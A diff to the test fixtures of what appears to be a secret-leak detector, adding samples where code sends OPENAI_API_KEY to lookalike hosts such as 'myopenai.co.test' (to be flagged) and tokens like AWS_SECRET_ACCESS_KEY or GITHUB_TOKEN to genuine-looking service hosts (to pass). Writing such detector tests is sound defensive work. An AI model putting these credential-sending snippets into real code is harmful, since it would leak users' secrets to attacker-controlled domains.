@@ -49,6 +49,15 @@ export const GIVEN: readonly Sample[] = [
     ),
     expected: at('strange-key', 3),
   },
+  ...['openai-login.test', 'api.openai.weir.test', 'myopenai.co.test', 'openai.test.weir.test'].map(
+    (host) => ({
+      name: `the key of a service, to ${host}`,
+      files: imported(
+        `exports.ping = () => {\n  fetch('https://${host}/v1/ping', { headers: { authorization: process.env.OPENAI_API_KEY } });\n};\n`,
+      ),
+      expected: at('strange-key', 2),
+    }),
+  ),
   {
     name: 'a field of a card',
     files: imported(
@@ -101,7 +110,21 @@ export const GIVEN_HONEST = [
   quiet(
     'the key of a service, to that service',
     imported(
-      `exports.ping = () => {\n  fetch('https://api.openai.weir.test/v1/ping', { headers: { authorization: process.env.OPENAI_API_KEY } });\n};\n`,
+      `exports.ping = () => {\n  fetch('https://api.openai.test/v1/ping', { headers: { authorization: process.env.OPENAI_API_KEY } });\n};\n`,
+    ),
+  ),
+  ...[
+    ['NPM_TOKEN', 'https://npm.weir.test/-/ping'],
+    ['NODE_AUTH_TOKEN', 'https://packages.registry.weir.test/-/ping'],
+    ['GOOGLE_API_KEY', 'https://maps.googleapis.test/v1/ping'],
+    ['AWS_SECRET_ACCESS_KEY', 'https://s3.eu-west-1.amazonaws.com.test/ping'],
+    ['GITHUB_TOKEN', 'https://user:x@api.github.test:443/ping'],
+  ].map(([name, url]) =>
+    quiet(
+      `the key of a service, to one of its hosts: ${name}`,
+      imported(
+        `exports.ping = () => {\n  fetch('${url}', { headers: { authorization: process.env.${name} } });\n};\n`,
+      ),
     ),
   ),
 ];
